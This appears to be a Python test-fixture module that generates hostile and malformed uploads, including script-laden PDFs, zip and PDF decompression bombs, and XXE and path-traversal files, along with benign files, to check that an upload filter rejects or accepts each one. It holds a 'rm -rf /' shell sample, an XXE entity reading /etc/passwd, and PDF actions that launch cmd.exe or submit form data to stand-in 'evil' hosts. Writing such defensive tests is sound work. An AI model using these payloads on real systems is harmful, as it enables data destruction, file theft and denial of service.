"""Papers as an attacker, a broken phone or a hurried clerk would send them; made from one seed."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image, ImageDraw, PngImagePlugin

SEED = 20260201
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"


def photo(size: tuple[int, int] = (640, 480), mode: str = "RGB") -> Image.Image:
    """A picture with something on it, the same at every run."""
    dice = random.Random(SEED)
    made = Image.new(mode, size, "white" if mode != "RGBA" else (255, 255, 255, 0))
    draw = ImageDraw.Draw(made)
    for _ in range(60):
        x, y = dice.randrange(size[0]), dice.randrange(size[1])
        ink = tuple(dice.randrange(256) for _ in made.getbands())
        draw.rectangle((x, y, x + 40, y + 25), fill=ink[0] if len(ink) == 1 else ink)
    return made


def encoded(kind: str, picture: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    (picture or photo()).save(out, kind, **options)
    return out.getvalue()


def jpeg_with_place() -> bytes:
    picture = photo((800, 500))
    exif = Image.Exif()
    exif[0x0112] = 6  # turned a quarter
    exif[0x010F] = "CanaryCamera"
    exif[0x8825] = {1: "N", 2: (27.0, 46.0, 12.5), 3: "E", 4: (112.0, 57.0, 1.5)}
    return encoded("JPEG", picture, exif=exif)


def heic(picture: Image.Image | None = None) -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(picture or photo()).save(out, quality=60)
    return out.getvalue()


def png_claiming(wide: int, high: int, *, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def webp_claiming(wide: int, high: int) -> bytes:
    sides = (wide - 1) | (high - 1) << 14
    body = b"VP8L" + struct.pack("<IBI", 60, 0x2F, sides) + bytes(55)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def apng(frames: int) -> bytes:
    pictures = [Image.new("RGB", (8, 8), (n % 256, 0, 0)) for n in range(frames)]
    return encoded("PNG", pictures[0], save_all=True, append_images=pictures[1:])


def png_saying(text: str) -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", text, zip=True)
    return encoded("PNG", pnginfo=told)


def pdf(change: Callable[[Pdf], None] | None = None, *, pages: int = 1, **save: object) -> bytes:
    """A PDF of empty pages, changed as told."""
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def at_opening(action: Dictionary) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(action)

    return change


def annotated(annotation: Dictionary) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        box = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]))
        for key, value in annotation.items():
            box[key] = value
        made.pages[0].Annots = Array([made.make_indirect(box)])

    return change


def attached(made: Pdf) -> None:
    made.attachments["invoice.exe"] = b"MZ\x90\x00"


def scripted_names(made: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["go", made.make_indirect(script)]))
    )


def electronic_form(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def hidden_deep(made: Pdf) -> None:
    inner: pikepdf.Object = Dictionary(S=Name.JavaScript, JS="x()")
    for _ in range(40):
        inner = Dictionary(Next=Array([inner]))
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage, Next=inner))


def spelled_otherwise() -> bytes:
    plain = pdf(at_opening(Dictionary(S=Name.JavaScript, JS="x()")))
    return plain.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4a#53")


@cache
def object_stream_bomb(unpacked: int = 400_000_000) -> bytes:
    pack = zlib.compressobj(9)
    block = b" " * 10_000_000
    body = b"".join(
        [pack.compress(b"1 0 "), *(pack.compress(block) for _ in range(unpacked // len(block)))]
    )
    body += pack.flush()
    made = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
    made += b"%d>>\nstream\n" % len(body) + body + b"\nendstream\nendobj\n"
    rows = b"".join(struct.pack(">BIH", *row) for row in [(0, 0, 65535), (1, 9, 0), (2, 1, 0)])
    table = zlib.compress(rows)
    at = len(made)
    made += b"3 0 obj\n<</Type/XRef/Size 3/W[1 4 2]/Root 2 0 R/Filter/FlateDecode/Length "
    made += b"%d>>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
    return made + b"startxref\n%d\n%%%%EOF" % at


def circular_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3/Prev 9>>\nstartxref\n9\n%%EOF"
    )


def claims_many_pages() -> bytes:
    return pdf().replace(b"/Count 1", b"/Count 999999999")


def nested_arrays() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 100_000)


def zipped(*names: str, body: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name in names:
            box.writestr(name, body)
    return out.getvalue()


def refused() -> dict[str, tuple[Callable[[], bytes], str]]:
    """Name → how it is made, and a piece of the reason that people are told."""

    def js() -> Dictionary:
        return Dictionary(S=Name.JavaScript, JS="app.launchURL()")

    return {
        "zero bytes": (lambda: b"", "空"),
        "blanks": (lambda: b" " * 4096, "看不出"),
        "noise": (lambda: random.Random(SEED).randbytes(5000), "看不出"),
        "eicar": (lambda: EICAR, "看不出"),
        "too large": (lambda: b"%PDF-1.7" + bytes(21 * 1024 * 1024), "太大"),
        "program": (lambda: b"MZ\x90\x00" + bytes(500), "程序"),
        "elf": (lambda: b"\x7fELF" + bytes(500), "程序"),
        "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", "程序"),
        "html": (lambda: b"<!DOCTYPE html>" + SCRIPT, "网页"),
        "html after blanks": (lambda: b"\n\n  <html>" + SCRIPT, "网页"),
        "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "网页"),
        "xxe": (
            lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
            "网页",
        ),
        "zip": (lambda: zipped("../../etc/passwd"), "压缩包"),
        "zip bomb": (lambda: zipped("a", body=bytes(10_000_000)), "压缩包"),
        "docx": (lambda: zipped("[Content_Types].xml", "word/document.xml"), "Word"),
        "xlsx": (lambda: zipped("[Content_Types].xml", "xl/workbook.xml"), "Excel"),
        "old doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "旧版"),
        "rar": (lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100), "压缩包"),
        "gzip": (lambda: b"\x1f\x8b\x08" + bytes(100), "压缩包"),
        "gif with script": (lambda: b"GIF89a/*" + SCRIPT, "图片格式"),
        "bmp": (lambda: encoded("BMP"), "图片格式"),
        "tiff": (lambda: encoded("TIFF"), "图片格式"),
        "video": (lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(200), "视频"),
        "png of 65535 by 65535": (lambda: png_claiming(65535, 65535), "像素"),
        "png of 2^31": (lambda: png_claiming(2**31 - 1, 2**31 - 1), "像素"),
        "png without rows": (lambda: png_claiming(100, 100), "打不开"),
        "png of no width": (lambda: png_claiming(0, 10), "打不开"),
        "png text bomb": (lambda: png_saying("A" * 80_000_000), "打不开"),
        "png cut short": (lambda: encoded("PNG")[:900], "打不开"),
        "jpeg cut short": (lambda: encoded("JPEG")[:3000], "打不开"),
        "jpeg head alone": (lambda: b"\xff\xd8\xff\xe0", "打不开"),
        "jpeg magic before html": (lambda: b"\xff\xd8\xff" + SCRIPT, "打不开"),
        "webp head alone": (lambda: b"RIFF\x20\x00\x00\x00WEBPVP8X", "打不开"),
        "heic head alone": (lambda: b"\x00\x00\x00\x18ftypheic" + bytes(40), "打不开"),
        "heic cut short": (lambda: heic()[:700], "打不开"),
        "webp of 16383 by 16383": (lambda: webp_claiming(16383, 16383), "像素"),
        "pdf script at opening": (lambda: pdf(at_opening(js())), "脚本"),
        "pdf script in names": (lambda: pdf(scripted_names), "脚本"),
        "pdf script deep inside": (lambda: pdf(hidden_deep), "脚本"),
        "pdf script spelled otherwise": (spelled_otherwise, "脚本"),
        "pdf script in object streams": (
            lambda: pdf(at_opening(js()), object_stream_mode=pikepdf.ObjectStreamMode.generate),
            "脚本",
        ),
        "pdf script in a link": (
            lambda: pdf(annotated(Dictionary(Subtype=Name.Link, A=js()))),
            "脚本",
        ),
        "pdf launches": (
            lambda: pdf(at_opening(Dictionary(S=Name.Launch, F="cmd.exe"))),
            "其他程序",
        ),
        "pdf opens another file": (
            lambda: pdf(at_opening(Dictionary(S=Name.GoToR, F="\\\\evil\\share"))),
            "其他程序",
        ),
        "pdf with attachment": (lambda: pdf(attached), "夹带"),
        "pdf with attached note": (
            lambda: pdf(annotated(Dictionary(Subtype=Name.FileAttachment))),
            "夹带",
        ),
        "pdf xfa form": (lambda: pdf(electronic_form), "电子表单"),
        "pdf sends": (
            lambda: pdf(
                annotated(
                    Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="http://evil"))
                )
            ),
            "发送",
        ),
        "pdf with film": (
            lambda: pdf(annotated(Dictionary(Subtype=Name.RichMedia))),
            "视频",
        ),
        "pdf locked": (
            lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
            "密码",
        ),
        "pdf of 301 pages": (lambda: pdf(pages=301), "301 页"),
        "pdf of no pages": (lambda: pdf(pages=0), "损坏"),
        "pdf object stream bomb": (object_stream_bomb, "损坏"),
        "pdf of circles": (circular_pdf, "损坏"),
        "pdf head alone": (lambda: b"%PDF-1.7\n", "损坏"),
        "pdf magic before html": (lambda: b"%PDF-1.4\n" + SCRIPT, "损坏"),
    }


def taken() -> dict[str, tuple[Callable[[], bytes], str]]:
    """Name → how it is made, and the media type it is kept as."""
    return {
        "jpeg": (lambda: encoded("JPEG"), "image/jpeg"),
        "jpeg in grey": (lambda: encoded("JPEG", photo(mode="L")), "image/jpeg"),
        "jpeg for print": (lambda: encoded("JPEG", photo(mode="CMYK")), "image/jpeg"),
        "jpeg with place": (jpeg_with_place, "image/jpeg"),
        "jpeg and html": (lambda: encoded("JPEG") + SCRIPT, "image/jpeg"),
        "jpeg saying script": (lambda: encoded("JPEG", comment=SCRIPT), "image/jpeg"),
        "png": (lambda: encoded("PNG"), "image/png"),
        "png see-through": (lambda: encoded("PNG", photo(mode="RGBA")), "image/png"),
        "png by palette": (lambda: encoded("PNG", photo().quantize(16)), "image/png"),
        "png and zip": (lambda: encoded("PNG") + zipped("evil.js"), "image/png"),
        "png saying script": (lambda: png_saying(SCRIPT.decode()), "image/png"),
        "png of many frames": (lambda: apng(500), "image/png"),
        "webp": (lambda: encoded("WEBP"), "image/jpeg"),
        "heic": (heic, "image/jpeg"),
        "pdf": (pdf, "application/pdf"),
        "pdf of 300 pages": (lambda: pdf(pages=300), "application/pdf"),
        "pdf after blank lines": (lambda: b"\n\n" + pdf(), "application/pdf"),
        "pdf and zip": (lambda: pdf() + zipped("evil.js"), "application/pdf"),
        "pdf and html": (lambda: pdf() + SCRIPT, "application/pdf"),
        "pdf that may not be printed": (
            lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
            "application/pdf",
        ),
        "pdf that speaks of /JavaScript": (
            lambda: pdf(lambda made: made.docinfo.update({"/Title": "about /JavaScript and /JS"})),
            "application/pdf",
        ),
        "pdf opening at page one": (
            lambda: pdf(at_opening(Dictionary(S=Name.Named, N=Name.FirstPage))),
            "application/pdf",
        ),
        "pdf claiming many pages": (claims_many_pages, "application/pdf"),
    }
